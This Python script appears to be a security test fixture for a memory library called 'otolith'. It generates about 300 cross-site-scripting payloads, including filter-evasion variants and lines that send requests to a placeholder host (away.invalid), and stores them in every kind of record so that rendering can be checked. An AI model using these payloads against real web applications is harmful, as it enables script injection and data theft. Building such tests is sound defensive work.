"""Three hundred ways to make a page do what it should not: each tries to open a dialog or to send something away.

Run with a home as its argument, it puts them into every field of every kind and prints the ids that hold them.
"""

from __future__ import annotations

import json
import sys

from otolith.errors import OtolithError
from otolith.memory import Memory

AWAY = "http://away.invalid"
ACTS = ("alert(1)", f"fetch('{AWAY}/f')", f"location='{AWAY}/l'", f"new Image().src='{AWAY}/i'", "top.hit=1",
        f"import('{AWAY}/m.js')")
FORMS = (
    '<script>{act}</script>',
    '<img src=x onerror="{act}">',
    '<svg onload="{act}">',
    '<svg><script>{act}</script></svg>',
    '<body onload="{act}">',
    '<iframe srcdoc="<script>{act}</script>"></iframe>',
    '<iframe src="javascript:{act}"></iframe>',
    '<a href="javascript:{act}">click</a>',
    '[click](javascript:{act})',
    '[click](<java\tscript:{act}>)',
    '<a href="&#106;avascript:{act}">click</a>',
    '<input autofocus onfocus="{act}">',
    '<details open ontoggle="{act}">x</details>',
    '<video><source onerror="{act}"></video>',
    '<audio src=x onerror="{act}"></audio>',
    '<object data="javascript:{act}"></object>',
    '<embed src="javascript:{act}">',
    '<math><mtext><table><mglyph><style><img src=x onerror="{act}">',
    '<form action="javascript:{act}"><button>go</button></form>',
    '<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img onerror={act} src=1>">',
    '<noscript><p title="</noscript><img src=x onerror={act}>">',
    '<template><script>{act}</script></template>',
    '<marquee onstart="{act}">x</marquee>',
    '<select onfocus="{act}" autofocus></select>',
    '"><script>{act}</script>',
    '\'"--></style></script><script>{act}</script>',
    '</script><script>{act}</script>',
    '</title><script>{act}</script>',
    '</textarea><script>{act}</script>',
    '<!--<img src="--><img src=x onerror={act}//">',
    '<![CDATA[<img src=x onerror={act}>]]>',
    '<x onclick="{act}" style="position:fixed;inset:0">x</x>',
    f"<style>@import '{AWAY}/{{act}}.css';</style>",
    f'<link rel=stylesheet href="{AWAY}/{{act}}.css">',
    f'<link rel=prefetch href="{AWAY}/{{act}}">',
    f'<meta http-equiv=refresh content="0;url={AWAY}/{{act}}">',
    f'<base href="{AWAY}/"><script>{{act}}</script>',
    f'<p style="background:url({AWAY}/{{act}})">x</p>',
    f'![x]({AWAY}/{{act}}.png)',
    f'<img src="{AWAY}/{{act}}.png">',
    f'<img srcset="{AWAY}/{{act}}.png 2x">',
    f'<table background="{AWAY}/{{act}}"><tr><td>x',
    f'<a ping="{AWAY}/{{act}}" href="#">x</a>',
    f'<svg><image href="{AWAY}/{{act}}"/></svg>',
    '<svg><use href="data:image/svg+xml,<svg onload={act}>"/></svg>',
    '<svg><animate onbegin="{act}" attributeName=x dur=1s>',
    '[[<img src=x onerror={act}>]]',
    '[[x|<script>{act}</script>]]',
    '```\n</code></pre><script>{act}</script>\n```',
    '<xmp><p title="</xmp><svg/onload={act}>"></xmp>',
)
PAYLOADS = [form.replace("{act}", act) for form in FORMS for act in ACTS]
LINES = [" ".join(payload.split()) for payload in PAYLOADS]
EVERY = "\n\n".join(PAYLOADS)


def poison(home: str) -> list[str]:
    """Every payload as a note's title, text, tag and project, and all of them in one record of each other kind."""
    with Memory(home) as mem, mem.bulk():
        notes = [_note(mem, line, payload) for line, payload in zip(LINES, PAYLOADS, strict=True)]
        ids = [*notes[::60], mem.note("All of them", EVERY).id]
        ids.append(mem.memo("every_script_payload_there_is", EVERY, category="past", tags=["x"]).id)
        ids.append(mem.remember(EVERY, conversation_id=LINES[0])[0].id)
        ids.append(mem.log("\n".join(f"<b>Mallory</b>: I live in {line}" for line in LINES), topic="poison").id)
        work = mem.record(goal=LINES[0], task_type="other", success=True, summary=EVERY, tags=LINES[:3],
                          reasoning={"approach": EVERY})
        ids.append(work.id)
        ids.append(mem.chapter([work.id], title=LINES[1], summary=EVERY).id)
        link = mem.link(notes[0], "RELATED_TO", notes[1], context=LINES[1])
        mem.episode(LINES[2], summary=EVERY)
        return [*ids, str(link.edge_id)]


def _note(mem: Memory, line: str, payload: str) -> str:
    try:
        return mem.note(line, payload, tags=[line], project=line).id
    except OtolithError:  # as a tag it is refused already
        return mem.note(line, payload).id


if __name__ == "__main__":
    sys.stdout.write(json.dumps(poison(sys.argv[1])))
